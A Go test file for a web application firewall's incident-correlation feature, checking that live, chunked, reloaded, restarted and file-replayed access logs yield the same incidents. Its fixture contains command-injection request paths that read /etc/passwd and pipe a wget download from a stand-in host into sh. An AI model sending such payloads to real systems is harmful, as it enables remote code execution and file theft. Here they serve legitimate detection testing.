package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli"
	"github.com/fluent-bit-waf/fluent-bit-waf/cmd/wafctl/internal/cli/clitest"
	"github.com/fluent-bit-waf/fluent-bit-waf/filter"
	"github.com/fluent-bit-waf/fluent-bit-waf/filter/intake"
	"github.com/fluent-bit-waf/fluent-bit-waf/internal/setting"
)

// dated is a line of an access log.
type dated struct {
	at   time.Time
	line string
}

// mixed returns the records of all kinds of incidents in the order of time, an attacker who moves on among them, and hours without an attack
// behind them, in which all incidents end.
func mixed(t *testing.T) (all []dated) {
	t.Helper()
	l := &accessLog{at: time.Date(2026, 5, 30, 8, 0, 10, 0, time.UTC)}
	l.ask("203.0.113.70", "10.2.0.7:80", "GET", "/api/orders/7?q=;cat%20/etc/passwd", 200, 20*time.Second)
	l.ask("10.2.0.7", "10.2.0.8:80", "POST", "/internal?cmd=;wget%20http://203.0.113.9/x|sh", 200, 5*time.Minute)
	l.ask("10.2.0.8", "10.2.0.12:80", "POST", "/admin?cmd=;wget%20http://203.0.113.9/x|sh", 200, 5*time.Minute)
	l.at = time.Date(2026, 5, 30, 16, 0, 0, 0, time.UTC)
	for n := range 30 {
		l.ask(fmt.Sprintf("198.51.100.%d", n%5), "10.2.0.80:8080", "GET", "/", 200, 10*time.Minute)
	}
	text := l.String()
	for _, kind := range []string{"campaign", "probing", "brute-force", "spread", "enumeration", "disclosure"} {
		records, err := os.ReadFile(filepath.Join(docs, "examples", kind+".ndjson"))
		require.NoError(t, err)
		text += string(records)
	}
	for line := range strings.Lines(text) {
		var r struct {
			At time.Time `json:"time_iso8601"`
		}
		require.NoError(t, json.Unmarshal([]byte(line), &r))
		all = append(all, dated{r.At, line})
	}
	slices.SortStableFunc(all, func(a, b dated) int { return a.at.Compare(b.at) })
	return all
}

// chunksOf returns the records as events at their times, so many in a chunk.
func chunksOf(t *testing.T, records []dated, size int) (chunks [][]byte) {
	t.Helper()
	var d intake.Decoder
	for some := range slices.Chunk(records, size) {
		var chunk []byte
		for _, r := range some {
			grown, n, err := d.AppendEvents(chunk, []byte(r.line), r.at)
			require.NoError(t, err)
			require.Equal(t, 1, n)
			chunk = grown
		}
		chunks = append(chunks, chunk)
	}
	return chunks
}

// event is an event about an incident, in the flat format, without the ids of alerts: these differ between live and replayed records.
type event map[string]string

// live returns the events about incidents that a filter emits for chunks.
func live(t *testing.T, f *filter.Filter, chunks [][]byte) (events []event) {
	t.Helper()
	var out filter.Outcome
	for _, chunk := range chunks {
		f.Process(chunk, "access", &out)
		for i := range out.Emits {
			if e := &out.Emits[i]; e.Tag == "incident" {
				one := event{}
				require.NoError(t, json.Unmarshal(e.Message().JSON, &one))
				delete(one, "sample_alerts")
				events = append(events, one)
			}
		}
	}
	return events
}

var liveSettings = setting.Map{"incidents": "on", "incident_tag": "incident", "inspect_budget": "off"}

func openLive(t *testing.T, more setting.Map, log filter.Logger) *filter.Filter {
	t.Helper()
	settings := setting.Map{}
	for _, m := range []setting.Map{liveSettings, more} {
		for name, value := range m {
			settings[name] = value
		}
	}
	f, err := filter.New(clitest.Host, settings, log)
	require.NoError(t, err)
	return f
}

func closed(events []event) (last []event) {
	for _, e := range events {
		if e["incident_status"] == "closed" {
			last = append(last, e)
		}
	}
	slices.SortFunc(last, func(a, b event) int { return strings.Compare(a["incident_id"], b["incident_id"]) })
	return last
}

func unlogged(filter.Level, string) {}

// TestTheSameRecordsGiveTheSameIncidents plays the same records live, in chunks of several sizes, on one processor and on several, with a
// reload of the rules and with a restart in the middle, and from files.
func TestTheSameRecordsGiveTheSameIncidents(t *testing.T) {
	records := mixed(t)
	f := openLive(t, nil, unlogged)
	want := live(t, f, chunksOf(t, records, 1))
	require.NoError(t, f.Close())
	kinds := map[string]bool{}
	for _, e := range closed(want) {
		for kind := range strings.SplitSeq(e["incident_kinds"], ",") {
			kinds[kind] = true
		}
	}
	for _, kind := range []string{"campaign", "probing", "brute-force", "spread", "pivot", "enumeration", "disclosure"} {
		require.True(t, kinds[kind], kind)
	}
	require.Empty(t, openAtTheEnd(want))

	for _, size := range []int{7, 100, len(records)} {
		for _, processors := range []int{1, 4} {
			t.Run(fmt.Sprintf("%d in a chunk on %d", size, processors), func(t *testing.T) {
				before := runtime.GOMAXPROCS(processors)
				defer runtime.GOMAXPROCS(before)
				f := openLive(t, nil, unlogged)
				defer f.Close()
				require.Equal(t, want, live(t, f, chunksOf(t, records, size)))
			})
		}
	}
	t.Run("reload", func(t *testing.T) { require.Equal(t, want, reloaded(t, chunksOf(t, records, 20))) })
	t.Run("restart", func(t *testing.T) { require.Equal(t, want, restarted(t, chunksOf(t, records, 20))) })
	t.Run("one file", func(t *testing.T) {
		requireReplayed(t, closed(want), fileOf(t, "all", records))
	})
	t.Run("files", func(t *testing.T) {
		var odd, even []dated
		for i, r := range records {
			if one := len(r.line) % 2; one == 1 || i == 0 {
				odd = append(odd, r)
			} else {
				even = append(even, r)
			}
		}
		requireReplayed(t, closed(want), fileOf(t, "odd", odd), fileOf(t, "even", even))
	})
}

// openAtTheEnd returns the incidents that do not end.
func openAtTheEnd(events []event) map[string]bool {
	open := map[string]bool{}
	for _, e := range events {
		open[e["incident_id"]] = true
		if e["incident_status"] == "closed" {
			delete(open, e["incident_id"])
		}
	}
	return open
}

// reloaded has a filter load other rules in the middle, which give the same verdicts.
func reloaded(t *testing.T, chunks [][]byte) []event {
	t.Helper()
	own := filepath.Join(t.TempDir(), "own.conf")
	write := func(id int) {
		rule := fmt.Sprintf("SecRule ARGS \"@contains nothing-of-this-kind\" \"id:%d,phase:2,pass,log,msg:'x'\"\n", id)
		require.NoError(t, os.WriteFile(own, []byte(rule), 0o600))
	}
	write(1)
	reloads := make(chan struct{})
	once := sync.OnceFunc(func() { close(reloads) })
	f := openLive(t, setting.Map{"rules": "crs," + own, "reload_interval": "100ms"}, func(_ filter.Level, line string) {
		if strings.Contains(line, "rules were reloaded in") {
			once()
		}
	})
	defer f.Close()
	half := len(chunks) / 2
	events := live(t, f, chunks[:half])
	require.NotEmpty(t, events)
	write(2)
	select {
	case <-reloads:
	case <-time.After(time.Minute):
		require.Fail(t, "the rules were not reloaded")
	}
	return append(events, live(t, f, chunks[half:])...)
}

// restarted ends a filter after each quarter, and starts another one with its state file.
func restarted(t *testing.T, chunks [][]byte) (events []event) {
	t.Helper()
	state := setting.Map{"incident_state": filepath.Join(t.TempDir(), "state")}
	for quarter := range slices.Chunk(chunks, (len(chunks)+3)/4) {
		f := openLive(t, state, unlogged)
		events = append(events, live(t, f, quarter)...)
		require.NoError(t, f.Close())
	}
	return events
}

func fileOf(t *testing.T, name string, records []dated) string {
	t.Helper()
	var text strings.Builder
	for _, r := range records {
		text.WriteString(r.line)
	}
	file := filepath.Join(t.TempDir(), name+".ndjson")
	require.NoError(t, os.WriteFile(file, []byte(text.String()), 0o600))
	return file
}

// requireReplayed demands of wafctl incidents what a filter has found.
func requireReplayed(t *testing.T, want []event, files ...string) {
	t.Helper()
	got := wafctl(nil, nil, append([]string{"incidents", "--output", "json"}, files...)...)
	require.Equal(t, cli.ExitAlert, got.code, got.err)
	type counted []struct{ Name string }
	names := func(list counted) string {
		var all []string
		for _, one := range list {
			all = append(all, one.Name)
		}
		return strings.Join(all, ",")
	}
	found := map[string]event{}
	for line := range strings.Lines(got.out) {
		var i struct {
			ID, Severity, Reason, Summary   string
			Kinds                           []string
			First                           string `json:"first_seen"`
			Last                            string `json:"last_seen"`
			Records, Attacks                int
			Sources, Targets, Routes, Rules counted
		}
		require.NoError(t, json.Unmarshal([]byte(line), &i))
		found[i.ID] = event{
			"incident_id": i.ID, "severity_name": i.Severity, "reason": i.Reason, "msg": i.Summary, "incident_kinds": strings.Join(i.Kinds, ","), "first_seen": i.First,
			"last_seen": i.Last, "records": fmt.Sprint(i.Records), "attacks": fmt.Sprint(i.Attacks), "sources": names(i.Sources), "targets": names(i.Targets),
			"routes": names(i.Routes), "rules": names(i.Rules),
		}
	}
	require.Len(t, found, len(want))
	for _, e := range want {
		one := found[e["incident_id"]]
		for name, value := range one {
			require.Equal(t, e[name], value, "%s of %s", name, e["msg"])
		}
		require.NotEmpty(t, one, e["msg"])
	}
}
